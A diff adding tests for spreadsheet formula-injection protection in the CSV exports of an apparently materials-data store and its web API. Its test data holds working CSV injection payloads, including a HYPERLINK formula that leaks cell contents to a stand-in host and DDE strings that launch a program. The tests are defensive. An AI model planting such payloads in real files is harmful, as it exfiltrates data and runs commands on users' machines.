@@ -100,3 +100,81 @@ def test_a_crash_answer_has_the_headers_too(served, monkeypatch):
     r = c.get("/optimade/v1/structures")
     assert r.status_code == 500
     _assert_secure(r)
+
+
+# --- CSV exports a spreadsheet cannot run ------------------------------------------------------
+
+#: sources a careless or hostile uploader may give → the cell a spreadsheet must receive
+HOSTILE_SOURCES = {
+    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+    "doi:10.1000/ok": "doi:10.1000/ok",  # harmless text unchanged
+    "-1.5": "-1.5",  # a number written as text stays a number
+}
+
+
+def _frame():
+    import pandas as pd
+
+    return pd.DataFrame({"formula": ["Fe2O3", "ZnO"], "value": [-0.5, -1.25]})
+
+
+def test_store_export_csv_neutralises_formulas_and_keeps_numbers(store, tmp_path):
+    import pandas as pd
+
+    for source in HOSTILE_SOURCES:
+        store.add_measurements(
+            _frame(),
+            project="p",
+            property="formation_energy",
+            unit="eV/atom",
+            source=source,
+            allow_duplicate=True,
+        )
+    assert store.export(tmp_path / "out.csv") == 2 * len(HOSTILE_SOURCES)
+    back = pd.read_csv(tmp_path / "out.csv", keep_default_na=False, dtype={"source": str})
+    assert sorted(set(back["source"])) == sorted(HOSTILE_SOURCES.values())
+    assert sorted(back["value"].unique()) == [-1.25, -0.5]  # negative numbers stay numbers
+    assert back["value"].dtype.kind == "f"
+    # the parquet export keeps the text exactly as stored
+    store.export(tmp_path / "out.parquet")
+    assert set(pd.read_parquet(tmp_path / "out.parquet")["source"]) == set(HOSTILE_SOURCES)
+
+
+def test_server_csv_export_neutralises_formulas_and_keeps_numbers(served):
+    import csv
+    import io
+
+    c, alice = served
+    pid = c.post(f"{API}/projects", json={"name": "p"}, headers=alice).json()["id"]
+    for source in HOSTILE_SOURCES:
+        r = c.post(
+            f"{API}/projects/{pid}/measurements",
+            headers=alice,
+            json={
+                "property": "formation_energy",
+                "unit": "eV/atom",
+                "source": source,
+                "allow_duplicate": True,
+                "rows": [{"formula": "ZnO", "value": -1.25}],
+            },
+        )
+        assert r.status_code == 201, r.text
+    r = c.get(f"{API}/measurements.csv", params={"project_id": pid}, headers=alice)
+    assert r.status_code == 200
+    table = list(csv.DictReader(io.StringIO(r.text, newline="")))
+    assert sorted(row["source"] for row in table) == sorted(HOSTILE_SOURCES.values())
+    assert {row["value"] for row in table} == {"-1.25"}  # a number, not "'-1.25"
+
+
+def test_safe_cell_leaves_numbers_and_none_alone():
+    from matforge.store.spreadsheet import safe_cell
+
+    assert [safe_cell(v) for v in (-1.5, -3, None, "-1e-3", "+2", "Fe2O3")] == [
+        -1.5, -3, None, "-1e-3", "+2", "Fe2O3",
+    ]  # fmt: skip
+    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-") == "'-"
